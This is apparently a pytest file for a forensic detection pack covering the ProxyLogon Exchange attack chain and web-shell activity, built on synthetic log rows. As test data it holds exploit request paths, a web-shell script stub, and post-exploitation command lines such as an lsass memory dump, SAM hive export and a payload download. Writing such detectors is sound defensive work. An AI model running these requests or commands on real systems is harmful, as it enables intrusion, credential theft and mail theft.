"""Whole files of real shapes through parsers and packs: what is claimed, and what must not be."""

from __future__ import annotations

import pytest
from tests.campaigns.evidence_lines import V15, ecp, findings, iis, process, proxy, said, titles

BACK = "ServerInfo~a]@ex01.contoso.example:444"
DDI = BACK + "/ecp/DDI/DDIService.svc/"
TAIL = "&CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=;"
OAB = "EX01\\OAB (Default Web Site)"
SHELL = "http://f/<scr" + 'ipt language="JScript" run' + 'at="server">…</scr' + "ipt>"

LADDER = {
    "/autodiscover/autodiscover.xml?#": ("200", "exploited", "autodiscover-probe"),
    "/rpc/rpcproxy.dll?#": ("200", "exploited", "autodiscover-probe"),
    "/mapi/emsmdb/?#": ("200", "exploited", "mailbox-sid"),
    "/ecp/proxyLogon.ecp?#": ("241", "compromised", "ecp-session"),
    "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory#": ("200", "compromised", "oab-id"),
    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory#": ("200", "compromised", "script-stored"),
    "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#": (
        "200",
        "compromised",
        "file-written",
    ),
    "/EWS/Exchange.asmx?#": ("200", "compromised", "mail-read"),
}


@pytest.mark.parametrize("target", LADDER)
@pytest.mark.parametrize("stem", ["/ecp/y.js", "/ecp/ab.js", "/ecp/main.css", "/ecp/default.flt"])
def test_each_step_of_the_chain_has_exactly_its_meaning(target: str, stem: str) -> None:
    status, means, rung = LADDER[target]
    found = findings(proxy(("06:49:42", stem, "", BACK + target, status)), pack="proxylogon")
    assert said(found) == {(means, rung)}
    assert not [finding for finding in found if finding.weak]


@pytest.mark.parametrize("target", LADDER)
@pytest.mark.parametrize("status", ["302", "400", "401", "403", "404", "500", "503", ""])
def test_a_refused_step_is_an_attempt_and_no_more(target: str, status: str) -> None:
    found = findings(proxy(("06:49:42", "/ecp/y.js", "", BACK + target, status)), pack="proxylogon")
    assert said(found) == {("targeted", "autodiscover-probe")}


@pytest.mark.parametrize("target", LADDER)
def test_a_signed_in_user_is_not_the_anonymous_request(target: str) -> None:
    row = ("06:49:42", "/ecp/y.js", "CONTOSO\\admin", BACK + target, LADDER[target][0])
    assert said(findings(proxy(row), pack="proxylogon")) == set()


def test_a_scanner_of_localhost_is_context_with_its_reason() -> None:
    rows = [
        ("06:49:42", "/owa/auth/x.js", "", "ServerInfo~localhost/ecp/default.flt?", s) for s in ("500", "200")
    ]
    found = findings(proxy(*rows), pack="proxylogon")
    assert said(found) == set()
    assert {f.benign.rule for f in found if f.benign} == {"Vulnerability scanner asks for localhost"}


def test_localhost_does_not_excuse_a_session() -> None:
    row = ("06:49:42", "/ecp/y.js", "", "ServerInfo~localhost:444/ecp/proxyLogon.ecp?#", "241")
    assert said(findings(proxy(row), pack="proxylogon")) == {("compromised", "ecp-session")}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (f"Set-OabVirtualDirectory.ExternalUrl='{SHELL}'.Identity='x'", {("compromised", "script-stored")}),
        (
            "Set-EcpVirtualDirectory.InternalUrl='http://f/<%@ Page %>'.Identity='x'",
            {("compromised", "script-stored")},
        ),
        (f"Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.example/OAB'.Identity='{OAB}'", set()),
        ("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='EX01\\OAB (Default Web Site)'", set()),
        ("Remove-OABVirtualDirectory.Force=$true.Identity='EX01\\OAB (Default Web Site)'", set()),
        ("Get-InboxRule", set()),
    ],
)
def test_a_url_is_a_script_or_a_url(command: str, expected: set[tuple[str, str]]) -> None:
    assert said(findings(ecp(command), pack="proxylogon")) == expected


def test_clean_up_is_told_apart_from_the_deed() -> None:
    commands = (
        f"Set-OabVirtualDirectory.ExternalUrl='{SHELL}'.Identity='x'",
        "Remove-OABVirtualDirectory.Force=$true.Identity='x'",
        "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='EX01'",
        "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='x'",
    )
    found = findings(ecp(*commands), pack="proxylogon")
    assert len([finding for finding in found if finding.means == "compromised"]) == 1
    assert {"URL of a virtual directory emptied", "Virtual directory removed or created again"} <= titles(
        found
    )


@pytest.mark.parametrize(
    ("request_line", "expected"),
    [
        (f"GET /owa/auth/RedirSuiteServerProxy.aspx {TAIL}", {("compromised", "shell-reachable")}),
        ("HEAD /aspnet_client/k1.aspx -", {("compromised", "shell-reachable")}),
        (f"POST /owa/auth/k1.aspx {TAIL}", {("compromised", "shell-tasked")}),
        (f"GET /aspnet_client/system_web/abcdefgh.aspx c=1{TAIL}", {("compromised", "shell-tasked")}),
        (f"GET /owa/auth/RedirSuiteServiceProxy.aspx {TAIL}", set()),
        (f"POST /owa/auth/logon.aspx {TAIL}", set()),
        (f"GET /ecp/auth/TimeoutLogout.aspx {TAIL}", set()),
        (f"GET /owa/auth/errorFE.aspx httpCode=404{TAIL}", set()),
        ("GET /owa/auth/15.1.2106/scripts/premium/flogon.js -", set()),
        ("GET /OAB/4f1a/oab.xml -", set()),
        ("POST /ecp/default.aspx -", set()),
    ],
)
def test_pages_where_shells_were_left(request_line: str, expected: set[tuple[str, str]]) -> None:
    log = iis(f"06:00:00 {request_line} - 203.0.113.9 Mozilla/5.0 200")
    assert said(findings(log, pack="proxylogon")) == expected


@pytest.mark.parametrize("status", ["302", "404", "401", "500"])
def test_a_page_that_is_not_served_shows_no_shell(status: str) -> None:
    log = iis(f"06:00:00 POST /owa/auth/k1.aspx - - 203.0.113.9 Mozilla/5.0 {status}")
    assert said(findings(log, pack="proxylogon")) == set()


def test_a_list_of_names_makes_a_shell_scanner() -> None:
    rows = [
        f"17:27:{at:02} GET /owa/auth/name{at}.aspx - - 198.51.100.7 Mozilla/5.0 302" for at in range(40, 49)
    ]
    found = findings(iis(*rows), pack="proxylogon")
    assert said(found) == set()
    assert "Web shell scanner" in titles(found)


def test_iis_alone_is_context_until_the_chain_is_whole() -> None:
    front = "06:49:42 POST /ecp/y.js - - 203.0.113.9 python-requests/2.25.1 200"
    session = "06:49:46 POST /ecp/proxyLogon.ecp - CONTOSO\\EX01$ 192.0.2.10 python-requests/2.25.1 241"
    reset = (
        "06:50:00 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory - 192.0.2.10 x 200"
    )
    assert said(findings(iis(front), pack="proxylogon")) == set()
    assert said(findings(iis(session, reset), pack="proxylogon")) == set()
    assert ("compromised", "file-written") in said(findings(iis(front, session, reset), pack="proxylogon"))


def test_an_administrators_reset_is_explained() -> None:
    target = "/ecp/DDI/DDIService.svc/SetObject schema=OABVirtualDirectory"
    row = f"06:50:00 POST {target} CONTOSO\\admin 192.0.2.20 x 200"
    (found,) = findings(iis(row), pack="proxylogon")
    assert found.benign is not None


@pytest.mark.parametrize(
    "url", ["http://f/", "http://f/" + "<scr" + "ipt>x</scr" + "ipt>", "https://mail.contoso.example/OAB"]
)
def test_a_list_of_settings_in_a_page_is_the_trace_whatever_is_left_in_it(url: str) -> None:
    page = (
        "Name                            : OAB (Default Web Site)\r\n"
        "PollInterval                    : 480\r\n"
        "RequireSSL                      : True\r\nMetabasePath                    : IIS://EX01/W3SVC/1/ROOT/OAB\r\n"
        "AdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n"
        f"ExternalUrl                     : {url}\r\n"
        "WhenChangedUTC                  : 3/4/2021 4:07:21 PM\r\n"
    )
    found = findings(("inetpub/wwwroot/aspnet_client/k1.aspx", page.encode()), pack="proxylogon")
    assert ("compromised", "file-written") in said(found)


def test_the_same_list_in_an_administrators_notes_is_nothing() -> None:
    page = (
        "Name                            : OAB (Default Web Site)\r\n"
        "PollInterval                    : 480\r\n"
        "RequireSSL                      : True\r\nMetabasePath                    : IIS://EX01/W3SVC/1/ROOT/OAB\r\n"
        "ExternalUrl                     : https://mail.contoso.example/OAB\r\n"
        "WhenChangedUTC                  : 3/4/2021 4:07:21 PM\r\n"
    )
    found = findings(("Users/admin/Documents/oab-virtualdirectory.txt", page.encode()), pack="proxylogon")
    assert said(found) == set()


AUTODISCOVER = "/autodiscover/autodiscover.json"
BORROWED = "@x.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z"


@pytest.mark.parametrize(
    ("request_line", "status", "expected"),
    [
        (f"GET {AUTODISCOVER} a=powershell{TAIL}", "400", {("targeted", "way-in-tried")}),
        (f"GET {AUTODISCOVER} @x.example/mapi/nspi/?{TAIL}", "302", {("targeted", "way-in-tried")}),
        (f"GET {AUTODISCOVER} @x.example/mapi/nspi/?{TAIL}", "200", {("exploited", "way-in-tried")}),
        (f"POST {AUTODISCOVER} {BORROWED}{TAIL}", "401", {("targeted", "way-in-tried")}),
        (f"POST {AUTODISCOVER} {BORROWED}{TAIL}", "200", {("compromised", "session-borrowed")}),
        (f"GET {AUTODISCOVER}/v1.0/anna@contoso.example Protocol=EWS", "200", set()),
        ("POST /autodiscover/autodiscover.xml -", "401", set()),
        ("GET /erp/c.aspx proxy&port=3389&ip=127.0.0.1", "200", {("compromised", "tunnel")}),
        ("GET /erp/c.aspx proxy&port=3389&ip=127.0.0.1", "404", set()),
        ("POST /erp/t.ashx cmd=connect&target=10.0.0.5&port=445", "200", {("compromised", "tunnel")}),
        ("GET /shop/list.aspx cmd=whoami", "200", {("targeted", "way-in-tried")}),
        ("POST /shop/cart.aspx id=1", "200", set()),
    ],
)
def test_ways_in_and_tunnels(request_line: str, status: str, expected: set[tuple[str, str]]) -> None:
    log = iis(f"06:00:00 {request_line} - 203.0.113.9 python-urllib3/1.26.5 {status}")
    assert said(findings(log, pack="web-shell-activity")) == expected


def test_a_scanners_visit_is_explained_by_its_name() -> None:
    log = iis(f"06:00:00 GET {AUTODISCOVER} @x.example/mapi/nspi/? - 198.51.100.7 Mozilla/5.0+Nessus 401")
    found = findings(log, pack="web-shell-activity")
    assert said(found) == set()
    assert any(finding.benign for finding in found)


def test_a_note_that_begins_with_a_time_is_evidence_and_a_manual_is_not() -> None:
    page = "\\\\ex01\\c$\\inetpub\\wwwroot\\aspnet_client\\k1.aspx"
    planted = f'New-MailboxExportRequest -Mailbox "anna" -FilePath "{page}"'
    dated = ("notes/lines.txt", f"2023-04-02 04:30:30 {planted}\n".encode())
    manual = ("notes/manual.txt", f"Look for {planted}\n".encode())
    assert said(findings(dated, pack="web-shell-activity")) == {("compromised", "page-written")}
    assert said(findings(manual, pack="web-shell-activity")) == set()


def cmdlets(*rows: str) -> tuple[str, bytes]:
    """A CmdletInfra log with the columns that matter; each row is ``cmdlet|parameters``."""
    head = (
        "#Software: Microsoft Exchange Server\n#Version: 15.01.2375.007\n#Log-type: Rps Cmdlet Logs\n"
        "#Date: 2023-01-11T01:01:19.898Z\n"
        "#Fields: DateTime,RequestId,AuthenticatedUser,Cmdlet,Parameters,ErrorType,ExecutionResult\n"
    )
    parts = [row.split("|") for row in rows]
    lines = "".join(
        '2023-01-11T01:01:19.898Z,7b91be61-3d94-406e-b00c-3d80e3e5f115,CONTOSO\\admin,{},"{}",,Success\n'.format(
            cmdlet, parameters.replace('"', '""')
        )
        for cmdlet, parameters in parts
    )
    return V15 + "Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2023011101-1.LOG", (
        head + lines
    ).encode()


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (
            'New-MailboxExportRequest|-Mailbox "anna" -FilePath "\\\\ex01\\c$\\x\\k1.aspx"',
            {("compromised", "page-written")},
        ),
        ('New-MailboxExportRequest|-Mailbox "anna" -FilePath "\\\\files\\pst\\anna.pst"', set()),
        ('Set-Mailbox|-Identity "anna" -ForwardingSmtpAddress "smtp:a@mail.example"', set()),
        ('Get-Mailbox|-ResultSize "1"', set()),
    ],
)
def test_exports_of_pages_and_of_mail(row: str, expected: set[tuple[str, str]]) -> None:
    found = findings(cmdlets(row), pack="web-shell-activity")
    assert said(found) == expected
    assert not [finding for finding in found if finding.weak]


def test_forwarding_is_told_but_not_judged() -> None:
    row = 'Set-Mailbox|-Identity "anna" -ForwardingSmtpAddress "smtp:a@mail.example"'
    assert titles(findings(cmdlets(row), pack="web-shell-activity")) == {"Mail forwarded to another address"}


POOL = 'w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'
TASKED = ("compromised", "shell-tasked")
USED = ("compromised", "post-exploitation")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("whoami", {TASKED}),
        ("ipconfig /all", {TASKED}),
        ("net user /domain", {TASKED}),
        ('net group "Domain Admins" /domain', {TASKED}),
        ("dir /s C:\\*.pst", {TASKED}),
        ("tasklist | findstr lsass", {TASKED}),
        (
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\a.bin full",
            {TASKED, USED},
        ),
        ("reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s", {TASKED, USED}),
        ("net localgroup administrators support1 /add", {TASKED, USED}),
        ("copy D:\\mail\\user1.pst C:\\inetpub\\wwwroot\\", {TASKED, USED}),
        ("powershell New-MailboxExportRequest -Mailbox user1", {TASKED, USED}),
        ("curl.exe -o C:\\Windows\\Temp\\t.exe http://192.0.2.9/t", {TASKED, USED}),
    ],
)
def test_to_look_around_is_not_yet_to_handle_passwords_mail_or_tools(
    line: str, expected: set[tuple[str, str]]
) -> None:
    assert said(findings(process(f'"cmd" /c {line}', parent_line=POOL), pack="proxylogon")) == expected


def test_a_program_under_another_application_is_not_the_campaigns() -> None:
    found = findings(
        process('"cmd" /c whoami', parent_line=POOL.replace("MSExchangeOWA", "Shop")), pack="proxylogon"
    )
    assert said(found) == set()
